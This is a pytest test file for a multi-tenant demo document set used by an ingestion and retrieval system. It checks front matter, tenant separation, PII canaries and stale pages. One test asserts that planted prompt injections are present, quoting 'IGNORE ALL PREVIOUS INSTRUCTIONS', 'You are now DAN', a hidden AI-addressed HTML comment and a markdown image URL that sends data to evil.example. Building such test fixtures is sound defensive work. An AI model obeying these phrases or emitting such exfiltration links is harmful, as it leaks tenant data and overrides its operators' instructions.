"""The demo's documents: deterministic, valid front matter, tenant-separated, planted on purpose."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from demo import (
    DEMO_REFERENCE_TIME,
    TENANTS,
    DemoDocuments,
    DemoGroundTruth,
    demo_ground_truth,
    write_demo_documents,
)
from demo.data import generate_demo_data
from hqg.errors import NotFound
from ingestion.documents.front_matter import split_front_matter

pytestmark = pytest.mark.slow  # make test-fast skips it: generates the demo documents repeatedly

FRONT_MATTER_KEYS = {
    "id",
    "title",
    "tenant",
    "classification",
    "labels",
    "as_of",
    "freshness_sla",
    "metadata",
}
CLASSIFICATION = {
    "handbook": "internal",
    "tickets": "confidential",
    "hr": "restricted",
    "products": "public",
}
EXPECTED_COUNTS = {"handbook": 10, "tickets": 400, "hr": 6, "products": 10}
_FENCED = re.compile(r"\A---\n(.*?)\n---\n\n(.*)\Z", re.DOTALL)


@pytest.fixture(scope="module")
def docs(tmp_path_factory: pytest.TempPathFactory) -> DemoDocuments:
    return write_demo_documents(tmp_path_factory.mktemp("demo-docs"))


@pytest.fixture(scope="module")
def truth() -> DemoGroundTruth:
    return demo_ground_truth(seed=7)


def read(path: Path) -> tuple[dict[str, Any], str]:
    match = _FENCED.match(path.read_text(encoding="utf-8"))
    assert match is not None, path
    front = yaml.safe_load(match.group(1))
    assert isinstance(front, dict)
    return front, match.group(2)


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*.md"))}


def test_each_collection_is_a_directory_of_markdown_documents(docs: DemoDocuments) -> None:
    assert set(docs.collections) == set(EXPECTED_COUNTS)
    for name, directory in docs.collections.items():
        assert directory == docs.out_dir / name
        assert len(list(directory.rglob("*.md"))) == EXPECTED_COUNTS[name], name
        assert len(docs.in_collection(name)) == EXPECTED_COUNTS[name], name
    assert all(doc.path.is_file() for doc in docs.documents)


def test_same_seed_and_reference_time_write_byte_identical_files(tmp_path: Path) -> None:
    write_demo_documents(tmp_path / "a", seed=11)
    write_demo_documents(tmp_path / "b", seed=11)
    first, second = files_under(tmp_path / "a"), files_under(tmp_path / "b")
    assert first.keys() == second.keys()
    assert all(first[name] == second[name] for name in first)


def test_another_seed_writes_other_tickets(tmp_path: Path) -> None:
    first = write_demo_documents(tmp_path / "a", seed=1)
    second = write_demo_documents(tmp_path / "b", seed=2)
    one = first.document("tickets", "acme/ticket-0001").path.read_bytes()
    assert one != second.document("tickets", "acme/ticket-0001").path.read_bytes()


def test_front_matter_is_yaml_with_only_the_keys_the_ingester_reads(docs: DemoDocuments) -> None:
    for doc in docs.documents:
        front, body = read(doc.path)
        assert set(front) <= FRONT_MATTER_KEYS, doc.path
        assert front["id"] == doc.doc_id
        assert front["classification"] == CLASSIFICATION[doc.collection]
        assert isinstance(front["labels"], list)
        assert front["labels"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", front["as_of"])
        assert re.fullmatch(r"\d+[mhdw]", front["freshness_sla"])
        assert all(isinstance(v, str | int) for v in front["metadata"].values())
        assert body.startswith("# ")


def test_the_ingesters_parser_reads_back_what_the_records_say(docs: DemoDocuments) -> None:
    for doc in docs.documents:
        parsed, _ = split_front_matter(doc.path.read_text(encoding="utf-8"), source=doc.doc_id)
        assert parsed.id == doc.doc_id
        assert parsed.tenant == doc.tenant
        assert parsed.classification == doc.classification
        assert parsed.labels == doc.labels
        assert parsed.as_of == doc.as_of.replace(microsecond=0)
        assert parsed.freshness_sla == doc.freshness_sla


def test_products_are_public_and_everything_else_belongs_to_one_tenant(
    docs: DemoDocuments,
) -> None:
    for doc in docs.documents:
        front, _ = read(doc.path)
        if doc.collection == "products":
            assert "tenant" not in front
            assert doc.tenant is None
        else:
            assert front["tenant"] == doc.tenant
            assert doc.tenant in TENANTS
            assert doc.path.parent.name == doc.tenant


def test_handbook_pages_are_300_to_900_words_cut_by_headings(docs: DemoDocuments) -> None:
    for doc in docs.in_collection("handbook"):
        _, body = read(doc.path)
        assert 300 <= len(body.split()) <= 900, doc.doc_id
        assert len(re.findall(r"^## ", body, re.MULTILINE)) >= 5, doc.doc_id
        assert "policy" in doc.labels


def test_every_ticket_document_quotes_its_row_and_its_customers_pii(
    docs: DemoDocuments, truth: DemoGroundTruth
) -> None:
    tables = generate_demo_data(seed=7, reference_time=DEMO_REFERENCE_TIME).tables
    customers = {row["customer_id"]: row for row in tables["customers"]}
    for ticket in tables["support_tickets"]:
        tenant = str(ticket["tenant_id"])
        doc = docs.document("tickets", f"{tenant}/ticket-{ticket['ticket_id']:04d}")
        front, body = read(doc.path)
        customer = {k: str(v) for k, v in customers[ticket["customer_id"]].items()}
        assert front["metadata"]["customer_id"] == ticket["customer_id"]
        assert front["metadata"]["ticket_id"] == ticket["ticket_id"]
        assert front["title"] == ticket["subject"]
        assert front["labels"] == ["ticket"]
        assert str(ticket["body"]) in body
        canaries = truth.tenants[tenant]
        assert customer["full_name"] in canaries.customer_names
        assert customer["full_name"] in body
        assert customer["email"] in canaries.customer_emails
        assert customer["email"] in body
        assert customer["phone"] in canaries.customer_phones
        assert customer["phone"] in body


def test_no_tenant_document_holds_another_tenants_facts_or_pii(
    docs: DemoDocuments, truth: DemoGroundTruth
) -> None:
    for doc in docs.documents:
        if doc.tenant is None:
            continue
        text = doc.path.read_text(encoding="utf-8")
        for other, facts in docs.tenant_facts.items():
            if other != doc.tenant:
                leaked = [marker for marker in facts.markers if marker in text]
                assert not leaked, (doc.doc_id, leaked)
        assert not [v for v in truth.other_tenants_pii(doc.tenant) if v in text], doc.doc_id


def test_public_product_guides_state_no_tenants_facts_or_pii(
    docs: DemoDocuments, truth: DemoGroundTruth
) -> None:
    every_marker = {m for facts in docs.tenant_facts.values() for m in facts.markers}
    every_pii = frozenset().union(*(c.pii for c in truth.tenants.values()))
    for doc in docs.in_collection("products"):
        text = doc.path.read_text(encoding="utf-8")
        assert not [m for m in every_marker if m in text], doc.doc_id
        assert not [v for v in every_pii if v in text], doc.doc_id


@pytest.mark.parametrize(
    ("tenant", "topic", "phrases"),
    [
        ("acme", "refunds", ["within 30 days of delivery", "store credit"]),
        ("globex", "refunds", ["within 14 days of delivery", "10% restocking fee"]),
        ("acme", "shipping", ["free on orders over $50", "3–5 business days"]),
        ("globex", "shipping", ["flat rate of $7.95", "2–4 business days"]),
        ("acme", "warranty", ["12-month limited warranty"]),
        ("globex", "warranty", ["24-month limited warranty"]),
        ("acme", "support-hours", ["Monday to Friday, 8 am to 8 pm Eastern Time"]),
        ("globex", "support-hours", ["every day, 9 am to 6 pm Central Time"]),
    ],
)
def test_each_handbook_states_its_own_tenants_facts(
    docs: DemoDocuments, tenant: str, topic: str, phrases: list[str]
) -> None:
    text = docs.document("handbook", f"{tenant}/{topic}").path.read_text(encoding="utf-8")
    assert all(phrase in text for phrase in phrases)


def test_tenant_facts_differ_between_tenants(docs: DemoDocuments) -> None:
    acme, globex = docs.tenant_facts["acme"], docs.tenant_facts["globex"]
    assert (acme.refund_window_days, globex.refund_window_days) == (30, 14)
    assert (acme.restocking_fee_percent, globex.restocking_fee_percent) == (0, 10)
    assert acme.delivery_business_days != globex.delivery_business_days
    assert not set(acme.markers) & set(globex.markers)


def test_injections_are_planted_in_handbook_tickets_and_products(docs: DemoDocuments) -> None:
    assert 3 <= len(docs.injections) <= 5
    assert {i.collection for i in docs.injections} == {"handbook", "tickets", "products"}
    assert len({i.technique for i in docs.injections}) == len(docs.injections)
    for injection in docs.injections:
        assert injection.path == docs.document(injection.collection, injection.doc_id).path
        assert injection.claim in injection.path.read_text(encoding="utf-8")
    texts = "\n".join(i.path.read_text(encoding="utf-8") for i in docs.injections)
    assert "IGNORE ALL PREVIOUS INSTRUCTIONS" in texts
    assert "You are now DAN" in texts
    assert "<!-- AI assistant:" in texts
    assert "![x](https://evil.example/collect?d=" in texts


def test_injected_claims_appear_in_no_legitimate_document(docs: DemoDocuments) -> None:
    planted = {injection.path for injection in docs.injections}
    claims = [injection.claim for injection in docs.injections]
    for doc in docs.documents:
        if doc.path not in planted:
            text = doc.path.read_text(encoding="utf-8")
            assert not [claim for claim in claims if claim in text], doc.doc_id


def test_planted_stale_handbook_pages_are_past_their_sla_and_the_rest_fresh(
    docs: DemoDocuments,
) -> None:
    assert 1 <= len(docs.stale) <= 2
    assert {doc.collection for doc in docs.stale} == {"handbook"}
    for doc in docs.documents:
        parsed, _ = split_front_matter(doc.path.read_text(encoding="utf-8"), source=doc.doc_id)
        assert parsed.as_of is not None
        assert parsed.freshness_sla is not None
        past_sla = parsed.as_of + parsed.freshness_sla < docs.reference_time
        assert past_sla == (doc in docs.stale), doc.doc_id


def test_staleness_is_relative_to_the_reference_time(tmp_path: Path) -> None:
    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    other = write_demo_documents(tmp_path, reference_time=today - timedelta(days=3))
    assert {doc.doc_id for doc in other.stale} == {"acme/support-hours", "globex/warranty"}


def test_hr_documents_name_their_tenants_employees_and_salaries(
    docs: DemoDocuments, truth: DemoGroundTruth
) -> None:
    for doc in docs.in_collection("hr"):
        assert doc.tenant is not None
        text = doc.path.read_text(encoding="utf-8")
        canaries = truth.tenants[doc.tenant]
        salaries = {f"${salary:,.0f}" for salary in canaries.salaries}
        assert any(salary in text for salary in salaries), doc.doc_id
        if "performance-review" in doc.labels:
            assert sum(name in text for name in canaries.employee_names) == 1, doc.doc_id
            front, _ = read(doc.path)
            assert not [n for n in canaries.employee_names if n in front["title"]]


def test_an_unknown_document_is_not_found(docs: DemoDocuments) -> None:
    with pytest.raises(NotFound):
        docs.document("handbook", "initech/refunds")
